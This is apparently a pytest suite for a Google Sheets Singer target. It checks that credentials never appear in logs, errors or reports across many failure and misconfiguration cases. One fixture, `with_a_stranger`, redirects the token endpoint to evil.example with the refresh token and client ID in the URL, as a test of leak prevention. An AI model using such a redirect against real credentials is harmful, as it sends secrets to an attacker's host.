"""Secrets appear in no log, no error and no report, at debug level and as Meltano has logs written."""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess

import pytest

from tests.target.conftest import whole_stream
from tests.target.test_cli import COMMAND, USERS, lines_of

# As Meltano gives it to plugins of the SDK: everything of every logger, further fields and exceptions included.
LOGGING = {
    "version": 1,
    "disable_existing_loggers": False,
    "formatters": {"default": {"()": "singer_sdk.logging.StructuredFormatter"}},
    "handlers": {"default": {"class": "logging.StreamHandler", "formatter": "default", "stream": "ext://sys.stderr"}},
    "root": {"level": "DEBUG", "handlers": ["default"]},
}
ROWS = lines_of(whole_stream("users", USERS, [{"id": 1, "name": "a"}]))


def key_of(workbook):
    return workbook.emulator.credentials


def user_of(workbook):
    user = workbook.emulator.user_credentials_of("somebody")
    workbook.emulator.share(workbook.spreadsheet_id, user["account"])
    return user


def in_base64(credentials):
    return {"credentials_json": "", "credentials_base64": base64.b64encode(json.dumps(credentials).encode()).decode()}


def in_json(credentials):
    return {"credentials_json": credentials}


def as_path(credentials):
    """What happens to somebody who puts the key where its path belongs."""
    return {"credentials_json": "", "credentials_path": json.dumps(credentials)}


def as_encoded_path(credentials):
    return {"credentials_json": "", "credentials_path": in_base64(credentials)["credentials_base64"]}


def as_spreadsheet(credentials):
    return {"spreadsheet_id": f"{json.dumps(credentials)[::-1]}"}


def as_setting(name):
    """What happens to somebody who puts the key where something else belongs."""
    return lambda credentials: {"credentials_json": credentials, name: json.dumps(credentials)}


def cut_base64(credentials):
    return {"credentials_json": "", "credentials_base64": in_base64(credentials)["credentials_base64"][:-7]}


def cut_json(credentials):
    return {"credentials_json": json.dumps(credentials)[:-1]}


def of_another_kind(credentials):
    return {"credentials_json": {**credentials, "type": "external_account"}}


def with_a_stranger(credentials):
    address = f"https://evil.example/{credentials.get('refresh_token', 'x')}?key={credentials['client_id']}"
    return {"credentials_json": {**credentials, "token_uri": address}}


def with_a_broken_key(credentials):
    return {"credentials_json": {**credentials, "private_key": credentials["private_key"][:-99]}}


def refused(credentials):
    return {"credentials_json": {**credentials, "refresh_token": credentials["refresh_token"] + "x"}}


def unknown(credentials):
    return {"credentials_json": {**credentials, "client_email": "gone@project.iam.gserviceaccount.com"}}


def without_emulator(credentials):
    return {"credentials_json": credentials, "api_endpoint": "http://127.0.0.1:1"}


def secrets_in(text, credentials):
    """The secrets that a text holds, each by its name."""
    encoded = base64.b64encode(json.dumps(credentials).encode()).decode()
    pieces = {
        "the private key": credentials.get("private_key", "PRIVATE KEY").splitlines()[3:5],
        "the refresh token": [credentials.get("refresh_token", "1//emulator")],
        "the client's secret": [credentials.get("client_secret", "GOCSPX")],
        "base64 of the credentials": [encoded[first : first + 40] for first in range(80, len(encoded) - 40, 40)],
        "a token": ["ya29."],
        "an assertion": ["assertion"],
    }
    found = [name for name, parts in pieces.items() if any(part in text for part in parts)]
    return found + ["something signed"] * bool(re.search(r"eyJ[\w-]{10,}\.eyJ", text))


def test_the_search_finds_what_it_is_for(workbook):
    key, user = key_of(workbook), user_of(workbook)
    assert secrets_in(key["private_key"], key) == ["the private key"]
    assert secrets_in(in_base64(key)["credentials_base64"], key) == ["base64 of the credentials"]
    assert secrets_in(json.dumps(user), user) == ["the refresh token", "the client's secret"]
    assert secrets_in("Bearer ya29.emulator-x eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJ4In0.x", user) == [
        "a token", "something signed",
    ]  # fmt: skip


# Whose credentials, how they are given, what goes wrong, an option, the exit status.
CASES = {
    "a run": (key_of, in_base64, [], "", 0),
    "a user's run": (user_of, in_json, [], "", 0),
    "a check": (key_of, in_base64, [], "--check", 0),
    "a dry run": (user_of, in_base64, [], "--dry-run", 0),
    "a token that isn't accepted": (key_of, in_json, [{"kind": "401"}], "", 1),
    "no answer": (user_of, in_json, [{"kind": "cut"}], "", 1),
    "no answer to an assertion": (key_of, in_json, [{"kind": "cut", "method": "oauth.token"}], "", 1),
    "a page in a token's place": (user_of, in_json, [{"kind": "html", "method": "oauth.token"}], "", 1),
    "an account that is gone": (key_of, unknown, [], "", 1),
    "a login that is gone": (user_of, refused, [], "--check", 1),
    "nobody there": (user_of, without_emulator, [], "", 1),
    "half of the base64": (key_of, cut_base64, [], "", 1),
    "half of the file": (user_of, cut_json, [], "--check", 1),
    "another kind": (key_of, of_another_kind, [], "", 1),
    "a strange address": (user_of, with_a_stranger, [], "", 1),
    "half of the key": (key_of, with_a_broken_key, [], "", 1),
    "a key for a path": (key_of, as_path, [], "", 1),
    "base64 for a path": (key_of, as_encoded_path, [], "--check", 1),
    "a key for a workbook": (key_of, as_spreadsheet, [], "", 1),
    "a key for a time zone": (key_of, as_setting("timezone"), [], "--check", 1),
    "a key for a load method": (user_of, as_setting("load_method"), [], "", 1),
    "a key for a report": (key_of, as_setting("report_path"), [], "", 0),
}


@pytest.mark.parametrize("case", CASES)
def test_no_secret_is_ever_said(workbook, tmp_path, case):
    whose, given, faults, option, status = CASES[case]
    credentials = whose(workbook)
    (tmp_path / "logging.json").write_text(json.dumps(LOGGING))
    config = {
        **workbook.config, "retry_seconds": 0, "report_path": str(tmp_path / "report.json"), **given(credentials),
    }  # fmt: skip
    (tmp_path / "config.json").write_text(json.dumps(config))
    workbook.emulator.set_faults(*faults)
    done = subprocess.run(
        [COMMAND, "--config", str(tmp_path / "config.json"), *filter(None, [option])],
        input=ROWS, capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "LOGLEVEL": "DEBUG", "SINGER_SDK_LOG_CONFIG": str(tmp_path / "logging.json")},
    )  # fmt: skip
    assert done.returncode == status, done.stderr
    report = (tmp_path / "report.json").read_text() if (tmp_path / "report.json").exists() else ""
    assert secrets_in(done.stdout + done.stderr + report, credentials) == []
    assert "Traceback" not in done.stderr
    if status == 0:
        assert '"level":"debug"' in done.stderr.replace(" ", "").lower(), "the level must have been debug"
